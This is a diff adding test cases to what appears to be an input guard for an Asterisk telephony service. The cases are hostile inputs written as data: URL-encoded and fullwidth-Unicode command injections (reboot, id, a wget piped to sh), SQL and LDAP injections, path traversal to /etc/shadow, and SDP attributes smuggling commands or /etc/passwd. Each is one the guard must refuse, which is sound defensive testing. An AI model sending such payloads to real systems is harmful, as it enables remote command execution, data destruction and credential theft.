@@ -63,6 +63,19 @@ def test_the_halves_share_no_text() -> None:
         b"%7B%22a%22%3A%22x%27%3B%20touch%20pwn%3B%27%22%7D",
         b"http://a.example/?a=1&b=x;touch+pwn;",
         b"http://a.example/?a=1;touch+pwn;",
+        b"http://h/?%24%28reboot%29=1",
+        b"http://h/?a%5B%24%28id%29%5D=1",
+        b"http://h/?x%3Bwget%20h%2Fa%7Csh=1",
+        b"http://h/?%60reboot%60=1",
+        b"http://h/?a=1&%3Breboot%3B=1",
+        b"http://h/?%27%3BDROP%20TABLE%20x%3B--=1",
+        b"http://h/?1%20union%20select%20password%20from%20subscriber=1",
+        b"http://h/?%2A%29%28uid%3D%2A%29%29%28%7C%28uid=1",
+        "\uff04\uff08reboot\uff09=1;b=2".encode(),
+        "\uff40reboot\uff40=1;b=2".encode(),
+        "\uff07or\uff071\uff07\uff1d\uff071=1;b=2".encode(),
+        b"/var/lib/asterisk/agi-bin/x",
+        b"/var/lib/asterisk/keys/a",
         b"/var/spool/asterisk/monitor/../../../../etc/shadow",
         b"/var/spool/asterisk/monitor/4711.wav;touch pwn",
         b"/var/spool/asterisk/monitor/$(id).wav",
@@ -97,6 +110,8 @@ def test_many_keys_of_srtp_cost_nothing_and_hide_nothing() -> None:
         b"a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:$(reboot)|2^20\r\n",
         b"a=crypto:1|reboot\r\n",
         b"a=x:$(reboot)\r\n",
+        b"a=identity:x;reboot\r\n",
+        b"a=identity:/etc/passwd\r\n",
     ):
         assert outcome(decide(GUARD, message(more=kind, body=start + b"".join(keys) + bad))) == "refused", bad
 
